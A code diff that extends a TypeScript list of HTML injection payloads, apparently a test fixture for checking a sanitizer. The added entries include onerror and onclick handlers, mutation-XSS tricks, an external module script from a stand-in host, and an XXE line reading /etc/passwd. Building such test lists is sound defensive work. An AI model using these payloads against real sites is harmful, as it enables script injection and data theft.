@@ -20,6 +20,17 @@ const CORES = [
   '<embed src="javascript:globalThis.taken=1">',
   '<!ENTITY x SYSTEM "file:///etc/passwd">',
   '<?xml-stylesheet href="javascript:globalThis.taken=1"?>',
+  '<video><source onerror=globalThis.taken=1></video>',
+  '<template shadowrootmode=open><script>globalThis.taken=1</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=globalThis.taken=1>"></noscript>',
+  '<select><option><style></option></select><img src=x onerror=globalThis.taken=1>',
+  '<sourceline-timeline src="https://elsewhere.example/timeline.json"></sourceline-timeline>',
+  '<script type=module src=https://elsewhere.example/x.js></script>',
+  '<img srcset="https://elsewhere.example/x.png 2x" loading=eager>',
+  '<a ping=https://elsewhere.example/ href=https://elsewhere.example/>x</a>',
+  '<p style="background:url(https://elsewhere.example/x)">x</p>',
+  '<button popovertarget=x onclick=globalThis.taken=1 autofocus>x</button>',
+  '<x onpointerenter=globalThis.taken=1 style=position:fixed;inset:0>x</x>',
   '<x:script xmlns:x="http://www.w3.org/1999/xhtml">globalThis.taken=1</x:script>',
 ];
 
@@ -122,7 +133,7 @@ const COLLECTED = [
   ' ',
 ];
 
-/** A few hundred. */
+/** Some five hundred. */
 export const PAYLOADS: readonly string[] = [
   ...COLLECTED,
   ...WAYS_OUT.flatMap((way) => CORES.map((core) => way + core)),
